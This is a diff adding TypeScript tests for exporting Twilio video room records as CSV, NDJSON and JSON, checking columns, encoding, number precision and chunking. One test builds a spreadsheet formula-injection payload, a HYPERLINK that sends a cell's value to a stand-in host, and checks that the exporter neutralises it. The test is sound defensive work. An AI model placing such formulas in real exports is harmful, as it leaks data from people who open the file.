@@ -1,0 +1,132 @@
+import assert from 'node:assert/strict';
+import fc from 'fast-check';
+import { csvColumns } from '../../../../src/export/list/csv.ts';
+import { roomsText } from '../../../../src/export/list/serializeRooms.ts';
+import { parseJson } from '../../../../src/insights/core/json.ts';
+import { Room } from '../../../../src/insights/resources/room.ts';
+import { resource } from '../../../fuzz/arbitrary.ts';
+import { parseCsv } from './parseCsv.ts';
+
+const roomNames = Object.keys(new Room({}).fields);
+const textOf = (rooms: Room[], format: 'csv' | 'ndjson' | 'json') =>
+  [...roomsText(rooms, format)].map(({ text }) => text).join('');
+
+/** The cells of one room by the names of their columns. */
+function cells(json: Record<string, unknown>): Record<string, string> {
+  const [head = [], row = []] = parseCsv(textOf([new Room(json)], 'csv'));
+  return Object.fromEntries(head.map((name, place) => [name, row[place] ?? '']));
+}
+
+describe('Rooms as CSV', () => {
+  it('have every documented field but links as a column, and the note behind them', () => {
+    const documented = roomNames.filter((name) => name !== 'links');
+    assert.deepEqual(csvColumns.toSorted(), [...documented, 'note'].toSorted());
+    assert.equal(csvColumns.at(-1), 'note');
+    assert.equal(new Set(csvColumns).size, csvColumns.length);
+  });
+
+  it('are UTF-8 with its mark, and lines that end as RFC 4180 says', () => {
+    const text = textOf([new Room({ room_name: 'Ünïcode' })], 'csv');
+    assert.ok(text.startsWith('\uFEFFaccount_sid,room_sid,'));
+    assert.equal(text.split('\r\n').length, 3);
+    assert.ok(text.endsWith('\r\n'));
+  });
+
+  it('keep numbers numbers, and an int64 all of its digits', () => {
+    const json = parseJson(
+      '{"max_participants":50,"unique_participants":0,"duration_sec":"123456789012","total_participant_duration_sec":9007199254740993,"total_recording_duration_sec":1.0}',
+    ) as Record<string, unknown>;
+    const row = cells(json);
+    assert.equal(row.max_participants, '50');
+    assert.equal(row.unique_participants, '0');
+    assert.equal(row.duration_sec, '123456789012');
+    assert.equal(row.total_participant_duration_sec, '9007199254740993');
+    assert.equal(row.total_recording_duration_sec, '1');
+    assert.equal(row.note, '');
+  });
+
+  it('have times in ISO 8601 in UTC, codecs with a blank between, and nothing for null', () => {
+    const row = cells({
+      ...{ create_time: '2026-11-25T10:00:00+02:00', end_time: null, codecs: ['VP8', 'opus'] },
+      ...{ recording_enabled: false, room_name: '' },
+    });
+    assert.equal(row.create_time, '2026-11-25T08:00:00.000Z');
+    assert.equal(row.end_time, '');
+    assert.equal(row.codecs, 'VP8 opus');
+    assert.equal(row.recording_enabled, 'false');
+  });
+
+  it('name in a note what a row does not hold', () => {
+    const row = cells({ duration_sec: -5, end_time: 'soon', audio_only: true, links: {} });
+    assert.equal(row.note, 'not readable: end_time duration_sec; also sent: audio_only');
+    assert.equal(row.duration_sec, '');
+  });
+
+  for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']) {
+    it(`disarm text that begins with ${JSON.stringify(start)}`, () => {
+      const hostile = `${start}HYPERLINK("http://x/?"&A1,"click")`;
+      const row = cells({
+        ...{ room_name: hostile, room_type: hostile, status_callback: hostile, codecs: [hostile] },
+        [hostile]: 1,
+      });
+      for (const name of ['room_name', 'room_type', 'status_callback', 'codecs'])
+        assert.equal(row[name], `'${hostile}`, name);
+    });
+  }
+
+  it('hold any room in one row of as many cells, none of which a spreadsheet runs', () => {
+    fc.assert(
+      fc.property(fc.array(resource(roomNames), { maxLength: 4 }), (rows) => {
+        const [head, ...read] = parseCsv(
+          textOf(
+            rows.map((json) => new Room(json)),
+            'csv',
+          ),
+        );
+        assert.deepEqual(head, csvColumns);
+        assert.equal(read.length, rows.length);
+        for (const row of read) {
+          assert.equal(row.length, csvColumns.length);
+          for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r\n]/);
+        }
+        const column = csvColumns.indexOf('room_name');
+        rows.forEach((json, place) => {
+          const name = json.room_name;
+          if (typeof name !== 'string' || name.includes('\0') || !name.isWellFormed()) return;
+          const written = read[place]?.[column];
+          assert.ok(written === name || written === `'${name}`);
+        });
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
+
+describe('Rooms as NDJSON and JSON', () => {
+  const sent = '{"room_sid":"x","duration_sec":9223372036854775807,"a":1.0,"room_name":"a\\nb\u2028"}';
+  const room = new Room(parseJson(sent) as Record<string, unknown>);
+
+  it('are exactly what Twilio sent, a line each', () => {
+    assert.equal(textOf([room, room], 'ndjson'), `${sent}\n${sent}\n`);
+    assert.equal(textOf([], 'ndjson'), '');
+  });
+
+  it('are an array of them', () => {
+    assert.equal(textOf([room, room], 'json'), `[\n${sent},\n${sent}\n]\n`);
+    assert.equal(textOf([], 'json'), '[]\n');
+  });
+
+  it('come in pieces that count every room once', () => {
+    const rooms = Array.from({ length: 5000 }, () => room);
+    for (const format of ['csv', 'ndjson', 'json'] as const) {
+      const pieces = [...roomsText(rooms, format)];
+      assert.ok(pieces.length > 3);
+      assert.ok(pieces.every(({ text }) => text.length < 70_000));
+      assert.equal(
+        pieces.reduce((sum, piece) => sum + piece.rooms, 0),
+        rooms.length,
+      );
+      if (format === 'json') assert.equal(JSON.parse(pieces.map(({ text }) => text).join('')).length, 5000);
+    }
+  });
+});
